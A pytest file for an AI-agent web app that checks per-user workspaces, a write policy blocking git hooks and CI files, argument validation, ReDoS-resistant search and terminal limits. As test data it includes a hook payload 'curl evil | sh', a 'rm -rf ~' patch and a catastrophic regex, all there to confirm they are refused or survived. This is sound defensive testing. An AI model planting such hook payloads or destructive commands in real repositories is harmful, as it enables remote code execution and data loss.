"""Issue #16, agent tools: a workspace per user, a write policy, and tools that never raise.

Each test reproduces one finding of the hostile probe; on the code before the fix it fails
(a shared folder, an accepted hook, a 50 MiB patch, an exception out of the loop, a regex
that never ends, a whole 40 MB file read for one line).
"""

import json
import os

import pytest

from hermes_web.agent.loop import run_turn
from hermes_web.agent.tools import (
    WRITE_MAX_BYTES,
    run_tool,
    workspace_for,
)
from hermes_web.models import AgentTurn, Message
from hermes_web.services.chat import send_message, start_chat
from tests.fake_openai import FakeOpenAIServer

pytestmark = pytest.mark.django_db


@pytest.fixture
def template(tmp_path, settings):
    root = tmp_path / "template"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def main():\n    return 'hello'\n")
    (root / "README.md").write_text("# Demo\n")
    settings.HERMES_WORKSPACE = root
    settings.HERMES_ENABLE_TERMINAL = False
    return root


@pytest.fixture
def ws(tmp_path, settings):
    """A plain workspace folder for the tool-level tests."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "notes.md").write_text("one\ntwo\nthree\n")
    settings.HERMES_ENABLE_TERMINAL = False
    return root


def call(root, name, raw_args):
    args = raw_args if isinstance(raw_args, str) else json.dumps(raw_args)
    return json.loads(run_tool(name, args, workspace=root))


# -- a workspace per user (and per chat when asked) -------------------------------------------


def test_each_user_gets_a_copy_of_the_template_and_never_sees_another_users_files(
    alice, bob, template
):
    a = workspace_for(start_chat(owner=alice))
    b = workspace_for(start_chat(owner=bob))
    assert a != b
    assert (a / "src" / "app.py").read_text() == (template / "src" / "app.py").read_text()
    assert call(a, "write_file", {"path": "mine.txt", "content": "alice only"})["bytes_written"]
    assert "error" in call(b, "read_file", {"path": "mine.txt"})
    assert not (template / "mine.txt").exists()
    # The same user's next chat shares the user's workspace.
    assert workspace_for(start_chat(owner=alice)) == a


def test_a_chat_that_asks_for_its_own_workspace_gets_one(alice, template):
    shared = workspace_for(start_chat(owner=alice))
    own_chat = start_chat(owner=alice)
    own_chat.extra = {"workspace": "chat"}
    own_chat.save(update_fields=["extra"])
    own = workspace_for(own_chat)
    assert own != shared
    assert (own / "README.md").exists()


def test_the_new_chat_form_can_ask_for_a_workspace_of_its_own(alice, alice_client, template):
    alice_client.post("/chat/new/", {"workspace": "chat"})
    alice_client.post("/chat/new/", {})
    chats = list(alice.hermes_sessions.order_by("created_at"))
    assert chats[0].extra.get("workspace") == "chat"
    assert chats[1].extra.get("workspace") != "chat"
    assert workspace_for(chats[0]) != workspace_for(chats[1])


def test_a_chat_turn_runs_its_tools_in_the_users_workspace(alice, bob, template, settings):
    server = FakeOpenAIServer().start()
    settings.HERMES_CHAT_MODEL = "openai/fake-chat"
    settings.HERMES_CHAT_API_BASE = server.base_url
    settings.HERMES_CHAT_API_KEY = "x"
    settings.HERMES_LLM_MAX_RETRIES = 0
    settings.HERMES_CONTEXT_LENGTH = 128_000
    settings.HERMES_SUMMARY_MODEL = ""
    write = {
        "id": "call_w",
        "type": "function",
        "function": {
            "name": "write_file",
            "arguments": json.dumps({"path": "todo.txt", "content": "alice's plan"}),
        },
    }
    try:
        server.enqueue({"tool_calls": [write]}, {"content": "Written."})
        session = start_chat(owner=alice)
        turn = send_message(session=session, text="write my plan")
        run_turn(turn.pk)
        turn.refresh_from_db()
        assert turn.status == AgentTurn.Status.DONE, turn.error
    finally:
        server.stop()
    assert (workspace_for(session) / "todo.txt").read_text() == "alice's plan"
    assert not (template / "todo.txt").exists()
    assert not (workspace_for(start_chat(owner=bob)) / "todo.txt").exists()
    tool_row = Message.objects.get(session=session, role="tool")
    assert "bytes_written" in tool_row.content


# -- write policy ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        "sub/.git/hooks/post-checkout",
        ".GIT/hooks/pre-commit",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        "./.git/../.git/hooks/pre-push",
    ],
)
def test_writes_under_git_or_to_hook_and_ci_files_are_refused(ws, path):
    (ws / ".git" / "hooks").mkdir(parents=True)
    result = call(ws, "write_file", {"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert "not allowed" in result["error"]
    assert not (ws / path).exists()


def test_a_link_into_git_is_refused_too(ws):
    (ws / ".git" / "hooks").mkdir(parents=True)
    os.symlink(".git/hooks", ws / "hooks")
    result = call(ws, "write_file", {"path": "hooks/pre-commit", "content": "x"})
    assert "not allowed" in result["error"]
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()


def test_patch_on_a_hook_is_refused(ws):
    (ws / ".git" / "hooks").mkdir(parents=True)
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    result = call(
        ws,
        "patch",
        {"path": ".git/hooks/pre-commit", "old_string": "exit 0", "new_string": "rm -rf ~"},
    )
    assert "not allowed" in result["error"]
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"


def test_patch_replace_all_cannot_grow_a_file_past_the_write_cap(ws):
    big = ws / "big.txt"
    big.write_text("a" * (WRITE_MAX_BYTES - 10))
    result = call(
        ws,
        "patch",
        {"path": "big.txt", "old_string": "a", "new_string": "a" * 50, "replace_all": True},
    )
    assert "limit" in result["error"]
    assert big.stat().st_size == WRITE_MAX_BYTES - 10


def test_writes_stop_at_the_workspace_quota(ws, settings):
    settings.HERMES_WORKSPACE_QUOTA_BYTES = 300_000
    chunk = "x" * 100_000
    assert call(ws, "write_file", {"path": "a.txt", "content": chunk})["bytes_written"]
    assert call(ws, "write_file", {"path": "b.txt", "content": chunk})["bytes_written"]
    result = call(ws, "write_file", {"path": "c.txt", "content": chunk + chunk})
    assert "quota" in result["error"]
    assert not (ws / "c.txt").exists()
    # Overwriting a file counts its old size out, so rewriting in place still works.
    assert call(ws, "write_file", {"path": "a.txt", "content": chunk})["bytes_written"]


# -- tools never raise out of the loop ---------------------------------------------------------


def test_a_symlink_loop_anywhere_in_the_workspace_breaks_no_tool(ws):
    (ws / "deep").mkdir()
    os.symlink("loop_b", ws / "deep" / "loop_a")
    os.symlink("loop_a", ws / "deep" / "loop_b")
    os.symlink("self", ws / "self")
    assert call(ws, "search_files", {"pattern": "two"})["total_count"] == 1
    assert call(ws, "search_files", {"pattern": "*.md", "target": "files"})["total_count"] == 1
    listing = call(ws, "list_files", {"path": "."})
    assert {"path": "self", "type": "broken or looping link"} in listing["entries"]
    assert "cannot be resolved" in call(ws, "read_file", {"path": "deep/loop_a"})["error"]
    assert "cannot be resolved" in call(ws, "write_file", {"path": "self", "content": "x"})["error"]


@pytest.mark.parametrize(
    ("raw", "needle"),
    [
        ('{"path": "notes.md", "offset": 1e999}', "offset must be a whole number"),
        ('{"path": "notes.md", "offset": -1e999}', "offset must be a whole number"),
        ('{"path": "notes.md", "limit": 2.5}', "limit must be a whole number"),
        ('{"path": "notes.md", "offset": "abc"}', "offset must be a whole number"),
        ('{"path": "notes.md", "offset": true}', "offset must be a whole number"),
        ('{"path": "notes.md", "offset": [1]}', "offset must be a whole number"),
        ('{"path": "notes.md", "offset": "' + "9" * 5000 + '"}', "offset must be a whole number"),
        ('{"path": 5}', "path must be a string"),
        ('{"path": "notes.md", "bogus": 1}', "bad arguments for read_file"),
        ("[1, 2]", "arguments must be a JSON object"),
        ("{not json", "arguments are not valid JSON"),
    ],
)
def test_bad_arguments_are_a_clear_tool_error(ws, raw, needle):
    assert needle in call(ws, "read_file", raw)["error"]


@pytest.mark.parametrize(
    ("name", "args", "needle"),
    [
        ("write_file", {"path": "x.txt", "content": 5}, "content must be a string"),
        ("write_file", {"path": ["x"], "content": "y"}, "path must be a string"),
        ("patch", {"path": "notes.md", "old_string": {"a": 1}}, "old_string must be a string"),
        ("patch", {"path": "notes.md", "old_string": "one", "replace_all": "yes"}, "true or false"),
        ("search_files", {"pattern": 7}, "pattern must be a string"),
        ("search_files", {"pattern": "x", "limit": 1e999}, "limit must be a whole number"),
        ("list_files", {"depth": float("nan")}, "depth must be a whole number"),
    ],
)
def test_bad_arguments_of_every_tool_are_clear(ws, name, args, needle):
    raw = json.dumps(args)  # NaN is written as the bare NaN token, as some models do
    assert needle in call(ws, name, raw)["error"]


@pytest.mark.timeout(60)
def test_a_catastrophic_regex_finishes_and_still_finds_matches(ws):
    # Python's re needs about 2**n steps for (a+)+$ on n a's followed by a mismatch;
    # at 64 characters that would outlive the universe. RE2 is linear.
    (ws / "evil.txt").write_text("a" * 64 + "!\n" + "aaaa\n")
    result = call(ws, "search_files", {"pattern": "(a+)+$"})
    assert result["total_count"] == 1
    assert result["matches"][0]["line"] == 2


def test_a_pattern_re2_cannot_compile_is_searched_as_text(ws):
    (ws / "refs.txt").write_text("(a)\\1 literally\n")
    result = call(ws, "search_files", {"pattern": "(a)\\1"})
    assert result["total_count"] == 1
    assert "searched as literal text" in result["note"]


def _bytes_read() -> int:
    with open("/proc/self/io") as handle:
        return int(next(line for line in handle if line.startswith("rchar:")).split()[1])


@pytest.mark.skipif(not os.path.exists("/proc/self/io"), reason="needs Linux /proc")
def test_read_file_reads_only_the_range_it_returns(ws):
    line = "x" * 99 + "\n"
    with open(ws / "huge.log", "w") as handle:
        for _ in range(40):  # 40 MB
            handle.write(line * 10_000)
    before = _bytes_read()
    result = call(ws, "read_file", {"path": "huge.log", "offset": 5, "limit": 3})
    read = _bytes_read() - before
    assert result["content"].splitlines()[0].startswith("     5|xxx")
    assert len(result["content"].splitlines()) == 3
    assert result["truncated"] is True
    assert result["next_offset"] == 8
    assert result["file_size"] == 40 * 10_000 * 100
    assert read < 2_000_000, f"read {read:,} bytes for 3 lines"


def test_read_file_reports_the_total_when_the_range_reaches_the_end(ws):
    result = call(ws, "read_file", {"path": "notes.md"})
    assert result["total_lines"] == 3
    assert result["truncated"] is False


def test_terminal_output_is_capped_while_it_streams(ws, settings):
    settings.HERMES_ENABLE_TERMINAL = True
    result = call(ws, "terminal", {"command": "head -c 30000000 /dev/zero | tr '\\0' 'y'"})
    assert result["exit_code"] == 0
    assert len(result["output"]) < 60_000
    assert "bytes of output omitted" in result["output"]


def test_terminal_timeout_kills_the_command(ws, settings):
    settings.HERMES_ENABLE_TERMINAL = True
    result = call(ws, "terminal", {"command": "echo start; sleep 30", "timeout": 1})
    assert result["exit_code"] == 124
    assert "timed out after 1 s" in result["error"]
    assert result["output"].startswith("start")
